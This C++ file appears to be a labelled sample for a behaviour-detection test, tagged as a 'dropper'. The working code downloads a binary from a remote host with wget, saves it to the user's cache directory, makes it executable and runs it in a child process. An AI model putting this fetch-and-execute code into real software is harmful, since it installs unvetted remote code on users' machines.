// blind-expect: behavior.dropper
// Pulls a plugin binary with wget, stores it in the user's cache directory and runs it in a child process.
#include <cstdio>
#include <cstdlib>
#include <fstream>
#include <string>
#include <vector>
#include <sys/stat.h>
#include <sys/types.h>
#include <sys/wait.h>
#include <unistd.h>

namespace {

std::string fetch(const std::string &url)
{
    std::string cmd = "wget -q -O- '" + url + "'";
    FILE *p = popen(cmd.c_str(), "r");
    if (!p)
        return {};
    std::string data;
    char buf[8192];
    size_t n;
    while ((n = std::fread(buf, 1, sizeof buf, p)) > 0)
        data.append(buf, n);
    pclose(p);
    return data;
}

bool save(const std::string &path, const std::string &data)
{
    std::ofstream out(path, std::ios::binary | std::ios::trunc);
    if (!out)
        return false;
    out.write(data.data(), static_cast<std::streamsize>(data.size()));
    return out.good();
}

int launch(const std::string &path)
{
    pid_t pid = fork();
    if (pid < 0)
        return -1;
    if (pid == 0) {
        std::vector<char *> argv{const_cast<char *>(path.c_str()), nullptr};
        execv(path.c_str(), argv.data());
        _exit(127);
    }
    int status = 0;
    waitpid(pid, &status, 0);
    return status;
}

} // namespace

int main()
{
    const char *home = std::getenv("HOME");
    std::string dir = std::string(home ? home : "/tmp") + "/.cache";
    std::string target = dir + "/plugin-helper";

    std::string payload = fetch("http://updates.example-plugins.io/linux/x64/helper");
    if (payload.empty()) {
        std::fprintf(stderr, "download failed\n");
        return 1;
    }
    if (!save(target, payload))
        return 1;
    chmod(target.c_str(), S_IRWXU | S_IRGRP | S_IXGRP);
    return launch(target) == 0 ? 0 : 1;
}
